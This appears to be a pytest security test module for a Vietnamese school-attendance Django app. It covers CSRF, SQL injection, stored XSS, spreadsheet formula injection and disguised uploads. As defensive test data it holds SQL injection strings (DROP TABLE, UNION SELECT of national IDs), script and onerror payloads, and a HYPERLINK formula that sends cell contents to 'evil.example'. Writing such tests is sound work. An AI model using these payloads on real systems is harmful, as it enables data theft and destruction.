"""Security of the web pages and the API against the usual attacks: cross-site request
forgery, injection through search and filters, stored script in names and notes
(escaped in every page, text in every workbook, never a formula), and uploads that are
not what their name says. (Brute-forcing a login: dentruong/accounts' own tests.)"""

from __future__ import annotations

import html
import io
import uuid
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext

from dentruong.imports.models import BatchStatus, ImportBatch
from dentruong.imports.tests.factories import class_batch
from dentruong.outreach.tests.factories import open_case
from dentruong.people.models import Student
from dentruong.people.services import update_student
from tests.cast import PASSWORD, Cast

pytestmark = pytest.mark.django_db

SCHOOL_DAY = "2026-11-20"  # a Friday of term 1, before the test clock's today


def logged_in(user: Any, *, csrf_checks: bool = False) -> Client:
    client = Client(enforce_csrf_checks=csrf_checks)
    assert client.login(username=user.username, password=PASSWORD)
    return client


def csrf_token(client: Client, url: str) -> str:
    """The token a real browser gets: from a page of ours (the cookie it sets)."""
    assert client.get(url).status_code == 200
    return str(client.cookies["csrftoken"].value)


# --- cross-site request forgery --------------------------------------------------------------


def test_page_form_without_the_csrf_token_is_refused(cast: Cast) -> None:
    batch = class_batch(cast)
    client = logged_in(cast.teacher, csrf_checks=True)
    url = reverse("import-confirm", args=[batch.pk])
    assert client.post(url).status_code == 403
    assert client.post(url, {"csrfmiddlewaretoken": "x" * 32}).status_code == 403
    batch.refresh_from_db()
    assert batch.status == BatchStatus.PREVIEWED  # nothing happened

    token = csrf_token(client, reverse("import-batch", args=[batch.pk]))
    assert client.post(url, {"csrfmiddlewaretoken": token}).status_code == 302
    batch.refresh_from_db()
    assert batch.status == BatchStatus.CONFIRMED


def roll_call(cast: Cast) -> dict[str, Any]:
    return {
        "class_id": cast.class_3a.pk,
        "date": SCHOOL_DAY,
        "session": "am",
        "client_id": str(uuid.uuid4()),
        "marks": [{"student_id": cast.student.pk, "code": "K"}],
    }


def test_api_write_with_a_session_needs_the_csrf_token(cast: Cast) -> None:
    from dentruong.attendance.models import RollCall

    client = logged_in(cast.teacher, csrf_checks=True)
    url = "/api/v1/roll-calls"
    refused = client.post(url, roll_call(cast), content_type="application/json")
    assert refused.status_code == 403
    forged = client.post(
        url, roll_call(cast), content_type="application/json", HTTP_X_CSRFTOKEN="y" * 32
    )
    assert forged.status_code == 403
    assert not RollCall.objects.exists()

    token = csrf_token(client, reverse("roll-call", args=[cast.class_3a.pk]))
    accepted = client.post(
        url, roll_call(cast), content_type="application/json", HTTP_X_CSRFTOKEN=token
    )
    assert accepted.status_code == 201, accepted.content
    assert RollCall.objects.count() == 1


# --- injection through search and filters ---------------------------------------------------

HOSTILE = [
    "%",
    "_",
    "%%",
    "__",
    "Ánh%",
    "Á_h",
    "' OR '1'='1",
    "' OR 1=1 --",
    '"; DROP TABLE people_student; --',
    "Ánh'); DELETE FROM people_student; --",
    "\\",
    "\\%",
    "[a-z]*",
    "%' UNION SELECT national_id FROM people_student --",
    "\x00",
    "Ánh\x00%",
    "0103%",
    "01031800000_",
]


@pytest.mark.parametrize("query", HOSTILE)
def test_student_search_takes_sql_and_wildcards_as_text(cast: Cast, query: str) -> None:
    """No error, no row outside the user's scope, and `%`/`_` match only themselves: a
    hostile query finds no more than the plain text around it would."""
    extra = Student.objects.count()
    client = logged_in(cast.teacher)
    api = client.get("/api/v1/students", {"q": query})
    assert api.status_code == 200, api.content
    ids = {s["id"] for s in api.json()["items"]}
    assert ids <= {cast.student.pk}  # Tâm sees her class 3A: Ánh, and only her
    plain = query.replace("%", "").replace("_", "").strip()
    if not any(c.isalnum() for c in plain):  # nothing but wildcards and punctuation
        everyone = {s["id"] for s in client.get("/api/v1/students").json()["items"]}
        assert ids in (set(), everyone)  # as an empty search, never more
    page = client.get(reverse("student-list"), {"q": query})
    assert page.status_code in (200, 400), page.status_code
    assert b"P\xc3\xa1o" not in page.content  # Sùng A Páo of Y Tý: never shown to Tâm
    assert Student.objects.count() == extra  # nothing deleted


@pytest.mark.parametrize("query", ["%", "_", "' OR '1'='1", "%' --"])
def test_wildcards_do_not_widen_a_search_of_the_whole_commune(cast: Cast, query: str) -> None:
    client = logged_in(cast.school_leader)
    found = client.get("/api/v1/students", {"q": f"Ánh{query}"}).json()["items"]
    assert [s["id"] for s in found] in ([], [cast.student.pk])
    assert not client.get("/api/v1/students", {"q": f"xyz{query}"}).json()["items"]


@pytest.mark.parametrize(
    "params",
    [
        {"group_by": "school'; DROP TABLE attendance_rollcall; --"},
        {"group_by": "%"},
        {"level": "' OR 1=1 --"},
        {"grade": "1 OR 1=1"},
        {"date_from": "2026-09-05' OR '1'='1"},
        {"max_absences": "3; DELETE FROM attendance_absence"},
        {"students": "true' --"},
    ],
)
def test_report_filters_refuse_injection_with_a_clear_error(
    cast: Cast, params: dict[str, str]
) -> None:
    client = logged_in(cast.commune_officer)
    response = client.get(f"/api/v1/units/{cast.commune.pk}/attendance-rates", params)
    assert response.status_code in (200, 422), response.content
    if response.status_code == 422:
        errors = response.json()["errors"]
        assert errors and all(e["message"] and e["code"] for v in errors.values() for e in v)


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("absence-lists", {"kind": "consecutive' OR '1'='1"}),
        ("absence-lists", {"kind": "%"}),
        ("risk", {"level": "high' --"}),
        ("risk", {"level": "_"}),
    ],
)
def test_list_filters_refuse_injection(cast: Cast, path: str, params: dict[str, str]) -> None:
    client = logged_in(cast.commune_officer)
    response = client.get(f"/api/v1/units/{cast.commune.pk}/{path}", params)
    assert response.status_code == 422, response.content
    assert response.json()["errors"]


def test_children_filters_take_sql_as_text(cast: Cast) -> None:
    client = logged_in(cast.commune_officer)
    for params in (
        {"q": "' OR 1=1 --"},
        {"q": "%"},
        {"birth_year": "2020 OR 1=1"},
        {"schooling": "never' --"},
    ):
        response = client.get(reverse("children-list"), params)
        assert response.status_code in (200, 400), (params, response.status_code)
        assert "Mỷ".encode() not in response.content  # Y Tý's child: never


# --- stored script in names and notes -------------------------------------------------------

SCRIPT = "<script>alert('xss')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.fixture
def hostile_names(cast: Cast) -> Cast:
    update_student(student=cast.student, family_and_middle_name=SCRIPT, given_name=IMG)
    update_student(student=cast.student_4a, family_and_middle_name="=1+1", given_name="@SUM(A1)")
    cast.child.notes = FORMULA + " " + SCRIPT
    cast.child.save(update_fields=["notes"])
    return cast


def assert_escaped(content: bytes) -> None:
    text = content.decode()
    assert "<script>alert(" not in text
    assert "<img src=x onerror" not in text


def test_script_in_names_is_escaped_in_every_page(hostile_names: Cast) -> None:
    cast = hostile_names
    teacher = logged_in(cast.teacher)
    pages = [
        reverse("student-detail", args=[cast.student.pk]),
        reverse("class-roster", args=[cast.class_3a.pk]),
        reverse("student-list") + "?q=alert",
        reverse("roll-call", args=[cast.class_3a.pk]),
        reverse("attendance-sheet", args=[cast.class_3a.pk, "2026-11"]),
        reverse("class-risk", args=[cast.class_3a.pk]),
        reverse("case-detail", args=[open_case(cast).pk]),
    ]
    shown = 0
    for url in pages:
        response = teacher.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content)
        shown += "&lt;script&gt;alert(" in response.content.decode()
    assert shown >= 4  # the name is there, as text
    officer = logged_in(cast.commune_officer)
    for url in (reverse("child-detail", args=[cast.child.pk]), reverse("children-list")):
        response = officer.get(url)
        assert response.status_code == 200, url
        assert_escaped(response.content)


def test_names_stay_text_in_every_workbook(hostile_names: Cast) -> None:
    cast = hostile_names
    teacher = logged_in(cast.teacher)
    leader = logged_in(cast.school_leader)
    officer = logged_in(cast.commune_officer)
    purpose = {"purpose": "kiểm tra bảo mật"}
    books = [
        teacher.get(reverse("export-class", args=[cast.class_3a.pk]), purpose),
        leader.get(reverse("export-school", args=[cast.school.pk]), purpose),
        teacher.get(reverse("attendance-sheet-xlsx", args=[cast.class_3a.pk, "2026-11"]), purpose),
        leader.get(reverse("school-attendance-xlsx", args=[cast.school.pk, "2026-11"]), purpose),
        officer.get(reverse("export-children", args=[cast.commune.pk]), purpose),
    ]
    found: set[str] = set()
    for response in books:
        assert response.status_code == 200, response.content[:300]
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        found |= {v for v in (SCRIPT, IMG, FORMULA, "=1+1", "@SUM(A1)")
                                  if v in cell.value}  # fmt: skip
    assert found == {SCRIPT, IMG, FORMULA, "=1+1", "@SUM(A1)"}


def test_exported_formula_like_names_import_back_unchanged(hostile_names: Cast) -> None:
    from dentruong.imports.models import ImportKind
    from dentruong.imports.services import Target, preview_import

    cast = hostile_names
    data = logged_in(cast.school_leader).get(
        reverse("export-school", args=[cast.school.pk]), {"purpose": "kiểm tra"}
    )
    batch = preview_import(
        target=Target(kind=ImportKind.STUDENTS, school=cast.school, school_year=cast.year),
        data=data.content,
        file_name="export.xlsx",
        user=cast.school_leader,
    )
    assert batch.summary["create"] == batch.summary["update"] == 0, batch.summary
    # An's formula-like name comes back as it went out (Ánh's hostile given name, several
    # words, is a problem of its own: "Tên chỉ gồm một từ").
    assert [r[1:4] for r in batch.summary["rows"]] == [["unchanged", [], "=1+1 @SUM(A1)"]]


# --- uploads that are not what they say -----------------------------------------------------

FAKES = {
    "program.xlsx": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200,
    "report.xlsx": b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer\n%%EOF\n",
    "page.xlsx": b"<!DOCTYPE html><html><body><table><tr><td>H\xe1\xbb\x8d</td></tr>"
    b"</table><script>alert(1)</script></body></html>",
    "page.xls": b"<html xmlns:x='urn:schemas-microsoft-com:office:excel'><table>"
    b"<tr><td>STT</td></tr></table></html>",
    "archive.xlsx": b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 100,
    "empty.xlsx": b"",
}


@pytest.mark.parametrize("name", sorted(FAKES))
def test_a_file_that_is_not_a_spreadsheet_is_refused_in_vietnamese(cast: Cast, name: str) -> None:
    from django.core.files.uploadedfile import SimpleUploadedFile

    before = (ImportBatch.objects.count(), Student.objects.count())
    client = logged_in(cast.teacher)
    upload = SimpleUploadedFile(name, FAKES[name], content_type="application/vnd.ms-excel")
    response = client.post(reverse("import-class", args=[cast.class_3a.pk]), {"file": upload})
    assert response.status_code == 400
    text = response.content.decode()
    with translation.override("vi"):
        expected = [
            gettext("This is not an Excel file (.xlsx or .xls). Save it from Excel and retry."),
            gettext("The file is damaged or not an Excel file."),
            gettext("The submitted file is empty."),
        ]
    assert any(html.escape(m) in text for m in expected), text
    assert "Excel" in text and not expected[0].startswith("This is")  # Vietnamese
    upload = SimpleUploadedFile(name, FAKES[name], content_type="application/octet-stream")
    api = client.post(
        "/api/v1/imports",
        {"file": upload, "kind": "class_list", "target_id": cast.class_3a.pk},
    )
    assert api.status_code == 422, api.content
    errors = api.json()["errors"]
    assert list(errors) == ["file"] and errors["file"][0]["message"]
    assert (ImportBatch.objects.count(), Student.objects.count()) == before
